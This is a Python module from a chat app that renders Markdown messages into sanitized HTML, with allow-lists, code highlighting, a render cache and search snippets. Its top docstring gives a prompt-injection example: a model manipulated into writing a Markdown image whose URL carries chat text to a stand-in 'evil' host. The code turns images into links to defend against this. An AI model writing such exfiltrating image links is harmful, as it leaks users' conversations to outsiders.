"""Markdown → sanitized HTML for messages, rendered on the server.

Everything shown in the chat comes from users or models, so it is untrusted: markdown-it runs with raw
HTML disabled, and its output still goes through nh3 with a strict allow-list, so a bug or an unusual
construct in the markdown layer cannot smuggle a script, an event handler or a `javascript:` URL.

Math (`$…$`, `$$…$$`, `\\(…\\)`, `\\[…\\]`) becomes MathML (math_markup).

Markdown images become plain links: a model can be talked into writing `![x](https://evil/?d=<chat
text>)`, and an image the page loads by itself would send that text away with no click. The pages'
CSP (`img-src 'self' data:`) blocks remote images as a second line.
"""

from __future__ import annotations

import functools
import html
import re
import threading
from collections import OrderedDict
from collections.abc import Iterator

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import unescapeAll
from markdown_it.rules_core import StateCore
from mdit_py_plugins.tasklists import tasklists_plugin
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

from chatapp.chat.autolinks import autolinks_mark
from chatapp.chat.math_markup import MATH_ATTRIBUTES, MATH_TAGS, math_plugin

CODE_CSS_CLASS = "hl"
LIGHT_STYLE = "default"
DARK_STYLE = "github-dark"

_ALLOWED_TAGS = {
    "a", "b", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "i", "input", "label", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody",
    "td", "th", "thead", "tr", "ul", *MATH_TAGS,
}
_ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "div": {"class", "tabindex", "role", "aria-label"},  # a display formula's box (math_markup)
    "pre": {"class", "data-lang"},
    "span": {"class"},
    "ol": {"start", "class"},
    "ul": {"class"},
    "li": {"class"},
    "input": {"class", "checked"},  # a task list's checkbox (its type and disabled are set below)
    "th": {"style"},
    "td": {"style"},
    # a reply's heading: its Markdown level, which sets its size (_headings_lower)
    **{f"h{level}": {"class"} for level in range(3, 7)},
    **{tag: set(MATH_ATTRIBUTES) for tag in MATH_TAGS},
}
_URL_SCHEMES = {"http", "https", "mailto"}
# Tables use inline `text-align`; nothing else is allowed in a style attribute.
_STYLE_PROPERTIES = {"text-align"}

_formatter = HtmlFormatter(nowrap=True, classprefix="")


def _highlight(code: str, lang: str, _attrs: str) -> str:
    lang = (lang or "").strip().split()[0] if lang else ""
    try:
        lexer = get_lexer_by_name(lang, stripnl=False, ensurenl=False) if lang else None
    except ClassNotFound:
        lexer = None
    body = highlight(code, lexer, _formatter) if lexer is not None else html.escape(code)
    label = html.escape(lang, quote=True)
    return f'<pre class="{CODE_CSS_CLASS}" data-lang="{label}"><code>{body}</code></pre>\n'


def _images_in_links_mark(state: StateCore) -> None:
    """Mark each image that stands inside a link (`[![badge](img)](href)`), one pass over each line of
    inline tokens: the render rule asked every image to look back over all the tokens before it, and
    a reply of 12,000 images then took a minute to draw (links took seconds)."""
    for block in state.tokens:
        depth = 0
        for token in block.children or ():
            if token.type == "link_open":
                depth += 1
            elif token.type == "link_close":
                depth -= 1
            elif token.type == "image" and depth > 0:
                token.meta["in_link"] = True


def _image_as_link(_renderer, tokens, idx, _options, _env) -> str:
    """`![alt](src "title")` → a link to the image, labelled with its alt text (or the address)."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = "".join(child.content for child in token.children or []) or src
    if token.meta.get("in_link"):
        # Already inside a link (`[![badge](img)](href)`): links cannot nest, the outer one stands.
        return html.escape(alt)
    title = str(token.attrGet("title") or "")
    title_attr = f' title="{html.escape(title, quote=True)}"' if title else ""
    return f'<a href="{html.escape(src, quote=True)}"{title_attr}>{html.escape(alt)}</a>'


# The page's h1 is the chat's title and each message's h2 names the message (templates/chat/_message.html):
# a reply's own headings come below them, or its `# Plan` would stand beside the chat's title in a screen
# reader's list of headings. Deeper levels than h6 do not exist, so `####` and below share it.
HEADING_SHIFT = 2


def _headings_lower(state: StateCore) -> None:
    """`#` → h3 … h6 at most, the Markdown level kept as `md-h<n>`: the CSS sizes a heading by that class,
    so replies look as they did when `#` was an h1."""
    for token in state.tokens:
        if token.type in ("heading_open", "heading_close"):
            level = int(token.tag[1])
            if token.type == "heading_open":
                token.attrSet("class", f"md-h{level}")
            token.tag = f"h{min(level + HEADING_SHIFT, 6)}"


# How deep blocks may nest (a list level takes two). Past it markdown-it drops the rest of the text without
# a word: commonmark's 20 lost everything after a list ten levels deep, which a model writes. Each level
# costs a few frames of the parser's recursion, far from Python's limit.
MAX_NESTING = 200

_md = (
    MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False, "highlight": _highlight,
                              "maxNesting": MAX_NESTING})
    .enable("table")
    .enable("strikethrough")
    .use(math_plugin)
    # GFM task lists (`- [ ]`, `- [x]`): a checkbox that cannot be changed, in a label with its item's
    # words, which name it for a screen reader.
    .use(tasklists_plugin, label=True)
)
_md.core.ruler.push("images_in_links", _images_in_links_mark)
_md.core.ruler.push("autolinks", autolinks_mark)
_md.core.ruler.push("headings_lower", _headings_lower)
_md.add_render_rule("image", _image_as_link)


def _sanitize(fragment: str) -> str:
    return nh3.clean(
        fragment,
        tags=_ALLOWED_TAGS,
        clean_content_tags={"script", "style"},
        attributes=_ALLOWED_ATTRIBUTES,
        url_schemes=_URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        # A code block or table wider than the reply scrolls sideways: focusable, the keyboard can
        # scroll it too (only some browsers make a scrolling box focusable on their own). A code block
        # is named as a group, so a screen reader says what took the focus; a table says so itself.
        # A list takes the direction of its first letter (dir="auto"), so an Arabic or Hebrew list has its
        # bullets and numbers at the right, beside its items (the CSS sets its items' text alone).
        set_tag_attribute_values={"a": {"target": "_blank"},
                                  "pre": {"tabindex": "0", "role": "group", "aria-label": "Code"},
                                  "table": {"tabindex": "0"}, "ul": {"dir": "auto"}, "ol": {"dir": "auto"},
                                  # whatever made it: never a field the reader could type in or submit
                                  "input": {"type": "checkbox", "disabled": "disabled"}},
        filter_style_properties=_STYLE_PROPERTIES,
        strip_comments=True,
    )


class _ByteBoundedCache:
    """LRU of rendered HTML bounded by characters held (text + HTML), not by entries: 1,024 entries
    of multi-megabyte replies held gigabytes. Texts above `item_limit` are rendered every time."""

    def __init__(self, *, total_limit: int, item_limit: int) -> None:
        self.total_limit, self.item_limit = total_limit, item_limit
        self._items: OrderedDict[str, str] = OrderedDict()
        self._size = 0
        self._lock = threading.Lock()

    def get(self, text: str) -> str | None:
        with self._lock:
            rendered = self._items.get(text)
            if rendered is not None:
                self._items.move_to_end(text)
            return rendered

    def put(self, text: str, rendered: str) -> None:
        size = len(text) + len(rendered)
        if size > self.item_limit:
            return
        with self._lock:
            if text in self._items:
                return
            self._items[text] = rendered
            self._size += size
            while self._size > self.total_limit:
                old_text, old_rendered = self._items.popitem(last=False)
                self._size -= len(old_text) + len(old_rendered)

    @property
    def size(self) -> int:
        return self._size


# ~16 M characters at most (tens of MB), whatever the replies: a timeline page re-renders cheaply.
_render_cache = _ByteBoundedCache(total_limit=16_000_000, item_limit=400_000)


def markdown_render(text: str, *, cached: bool = True) -> str:
    """Render a message's markdown to HTML that is safe to insert into the page as is. Not `cached`:
    a text shown once (a streaming reply so far), which would only push stored replies out."""
    if not text:
        return ""
    rendered = _render_cache.get(text) if cached else None
    if rendered is None:
        rendered = _sanitize(_md.render(text))
        if cached:
            _render_cache.put(text, rendered)
    return rendered


@functools.cache
def code_style_css() -> str:
    """Pygments token colours for code blocks, light by default and dark under the dark theme: the
    one in use (<html data-theme>, set by js/theme.js), else the OS's."""
    selector = f".{CODE_CSS_CLASS}"
    light = "\n".join(HtmlFormatter(style=LIGHT_STYLE, classprefix="").get_token_style_defs(selector))
    dark = HtmlFormatter(style=DARK_STYLE, classprefix="")
    # A page without script (a shared link) has no data-theme and follows the OS.
    os_dark = "\n".join(f"  {line}" for line in dark.get_token_style_defs(f":root:not([data-theme]) {selector}"))
    chosen_dark = "\n".join(dark.get_token_style_defs(f':root[data-theme="dark"] {selector}'))
    return f"{light}\n@media (prefers-color-scheme: dark) {{\n{os_dark}\n}}\n{chosen_dark}\n"


# Markdown's syntax, for `markdown_plain`: line openings (fences, headings, quotes, list markers,
# rules, a table's separator row), then spans (images and links, emphasis, code).
_MD_LINE_SYNTAX = re.compile(
    r"^[ \t]*(?:(?:```|~~~).*|#{1,6}(?=[ \t])|>[ \t]?|(?:[-*+]|\d{1,9}[.)])(?=[ \t])"
    r"|([-*_])(?:[ \t]*\1){2,}[ \t]*$|\|?(?:[ \t]*:?-+:?[ \t]*\|)+(?:[ \t]*:?-+:?)?[ \t]*$)",
    re.MULTILINE,
)
# Neither part reads past a bracket of its kind that cannot close it (a destination may hold balanced
# parentheses, as CommonMark's do): each try ends at the next one, so a line of many unclosed `[`
# or `](` is read once, not once per bracket (a reply of 20,000 took 20 to 40 s for each search hit).
_MD_LINK = re.compile(r"!?\[([^\[\]\n]*)\]\([^()\n]*(?:\([^()\n]*\)[^()\n]*)*\)")
_MD_STRONG = re.compile(r"\*\*|__(?=\S)|(?<=\S)__")
# A delimiter after a backslash is escaped: written, not emphasis ("\*not slanted\*").
_MD_EMPHASIS = re.compile(
    r"(?<![\w*\\])\*(?=\S)([^*\n]+?)(?<=[^\s\\])\*(?![\w*])"
    r"|(?<![\w_\\])_(?=\S)([^_\n]+?)(?<=[^\s\\])_(?![\w_])"
)
_MD_TABLE_ROW = re.compile(r"^[ \t]*\|.*\|[ \t]*$", re.MULTILINE)
# A fence's opening line (CommonMark's, at any indentation, as _MD_LINE_SYNTAX drops it: a list item's
# fence is indented); its closing line is the same character, at least as many, alone on its line.
_MD_FENCE = re.compile(r"^[ \t]*(?:(`{3,})[^`\n]*|(~{3,})[^\n]*)$", re.MULTILINE)
_MD_BACKTICKS = re.compile(r"`+")


def markdown_plain(text: str) -> str:
    """A reply's Markdown as the words a reader sees, for a search snippet: no `**`, `#`, list
    markers, fences or link targets ("- **Total:** 80" is "Total: 80"), character references and
    backslash escapes read as the rendering reads them ("&amp;" is "&", "\\*" is "*"), code as written;
    line breaks are kept, and text without that syntax comes back unchanged. Not a renderer: a few
    regular expressions over the common syntax, since a page of hits cuts many snippets and a parser
    costs far more."""
    if not any(ch in text for ch in "*_`#>[|-+~.)&\\"):
        return text
    return "".join(_plain_prose(chunk) if prose else chunk for prose, chunk in _fenced_chunks(text))


def _fenced_chunks(text: str) -> Iterator[tuple[bool, str]]:
    """`text` as consecutive chunks of whole lines: (True, prose with the fence lines) or (False, a
    fenced block's code). A fence left open runs to the end, as CommonMark's does."""
    at = after = 0  # where the prose chunk starts, and where its next opening fence is looked for
    while (opening := _MD_FENCE.search(text, after)) is not None:
        fence = opening.group(1) or opening.group(2)
        body = opening.end() + 1
        yield True, text[at:body]
        closing = re.compile(rf"^[ \t]*{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$", re.MULTILINE).search(text, body)
        if closing is None:
            yield False, text[body:]
            return
        yield False, text[body:closing.start()]
        at, after = closing.start(), closing.end()  # the closing line is prose's to drop
    yield True, text[at:]


def _plain_prose(text: str) -> str:
    text = _MD_LINE_SYNTAX.sub("", text)  # a table's separator row goes here, by its pipes
    text = _MD_TABLE_ROW.sub(lambda m: m.group().replace("|", " "), text)
    text = _MD_LINK.sub(r"\1", text)
    text = _MD_EMPHASIS.sub(lambda m: m.group(1) or m.group(2), text)
    text = _MD_STRONG.sub("", text)
    if "&" not in text and "\\" not in text:
        return text.replace("`", "")
    # Outside code spans only: a run of backticks opens one that the next run as long closes (without
    # one it is written as it is); a run's next of the same length found once, from the end.
    runs = [m.span() for m in _MD_BACKTICKS.finditer(text)]
    closer: list[int | None] = [None] * len(runs)
    later: dict[int, int] = {}
    for i in range(len(runs) - 1, -1, -1):
        length = runs[i][1] - runs[i][0]
        closer[i], later[length] = later.get(length), i
    out, at, i = [], 0, 0
    while i < len(runs):
        j = closer[i]
        if j is None:
            i += 1
            continue
        out += [unescapeAll(text[at:runs[i][0]]).replace("`", ""), text[runs[i][1]:runs[j][0]]]
        at, i = runs[j][1], j + 1
    out.append(unescapeAll(text[at:]).replace("`", ""))
    return "".join(out)
